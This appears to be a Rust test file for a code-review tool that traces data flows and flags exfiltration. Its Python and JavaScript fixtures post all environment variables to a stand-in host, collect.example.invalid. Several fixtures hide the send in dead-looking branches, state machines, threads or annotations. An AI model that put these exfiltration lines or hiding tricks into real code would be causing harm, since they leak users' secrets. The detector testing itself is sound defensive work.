//! Code that known values seem to exclude, or that is reached in a way that is easily overlooked: it is read all the same.

use crate::flows::paths;

const SEND: &str = "requests.post('https://collect.example.invalid/x', data=dict(os.environ))";

fn sends(text: &str) -> bool {
    paths("sent.py", text).contains("-> network.send requests.post(data)")
}

/// Whatever decides a branch, its other arm is read: what decides may be known wrongly.
#[test]
fn what_known_values_exclude_is_read() {
    for text in [
        "a = 0\n\ndef f():\n    if a:\n        SEND\n\nf()\na = 1\nf()\n",
        "d = ['x']\nlist.pop(d)\nif not d:\n    SEND\n",
        "b = False\nb and SEND\n",
        "b = 0\nx = SEND if b else 1\n",
        "import contextlib\nwith contextlib.suppress(KeyError):\n    raise KeyError\nSEND\n",
        "for x in []:\n    SEND\n",
        "n = 0\nwhile n:\n    SEND\n",
        "import sys\nsys.exit = print\nsys.exit()\nSEND\n",
    ] {
        let text = format!("import os, requests\n{}", text.replace("SEND", SEND));
        assert!(sends(&text), "{text}");
    }
}

/// Constants as they are written, and what stands behind a `return`, decide for sure.
#[test]
fn what_cannot_run_is_not_told() {
    for text in ["if False:\n    SEND\n", "def f():\n    return 1\n    SEND\n"] {
        let text = format!("import os, requests\n{}", text.replace("SEND", SEND));
        assert!(!sends(&text), "{text}");
    }
}

/// A decoder that takes its states one after the other is followed as before, and its end is what it is.
#[test]
fn a_machine_of_states_is_still_followed() {
    let text = "import requests\nstate, parts = 0, []\nwhile state != 3:\n    if state == 0:\n        parts.append('http')\n        state = 2\n    elif state == 2:\n        parts.append('s://c.example.invalid/x')\n        state = 3\n    else:\n        parts = [str(len(parts))]\n        state = 3\nrequests.get(''.join(parts))\n";
    let events = crate::place::Place::new().file("m.py", text).run(&["review", "m.py", "--format", "report"]).stdout;
    assert!(events.contains("c.example.invalid"), "{events}");
}

/// A jump with a label leaves loops that have no other end.
#[test]
fn a_jump_with_a_label_leaves_a_loop() {
    for loops in ["x: for (;;) { break x }", "x: for (;;) { for (;;) { break x } }", "x: { for (;;) { break x } }"] {
        let text = format!(
            "{loops}\nfetch('https://collect.example.invalid/x', {{ method: 'POST', body: process.env.A }});\n"
        );
        assert!(paths("sent.js", &text).contains("-> network.send fetch(body)"), "{loops}");
    }
}

/// What a thread or a handler finds is what was put there since.
#[test]
fn what_runs_later_finds_what_came_since() {
    let text = "import os, queue, threading, requests\nQ = queue.Queue()\n\ndef work():\n    while True:\n        requests.post('https://collect.example.invalid/x', data=Q.get())\n\nthreading.Thread(target=work).start()\nQ.put(dict(os.environ))\n";
    assert!(sends(text));
}

/// A module is had through another that imports it, annotations are evaluated, and a default is one of the values.
#[test]
fn other_ways_lead_to_the_same_place() {
    let run = paths("run.py", "import subprocess\n\ndef f(command):\n    subprocess.os.system(command)\n");
    assert!(run.contains("-> process.command os.system(command)"), "{run}");
    let noted = format!("import os, requests\n\ndef f(x: {SEND}):\n    pass\n");
    assert!(sends(&noted));
    let own = "import os, requests\n\nclass U(str):\n    pass\n\nrequests.post(U('https://collect.example.invalid/x'), data=dict(os.environ))\n";
    let told =
        crate::place::Place::new().file("d.py", own).run(&["review", "d.py", "--format", "json", "--fail-on", "none"]);
    assert_eq!(told.json()["verdict"], "malicious");
    let default = "import os, requests\nrequests.post(os.environ.get('WHERE', 'https://collect.example.invalid/x'), data=dict(os.environ))\n";
    let told = crate::place::Place::new().file("d.py", default).run(&[
        "review",
        "d.py",
        "--format",
        "json",
        "--fail-on",
        "none",
    ]);
    assert_eq!(told.json()["verdict"], "malicious");
}
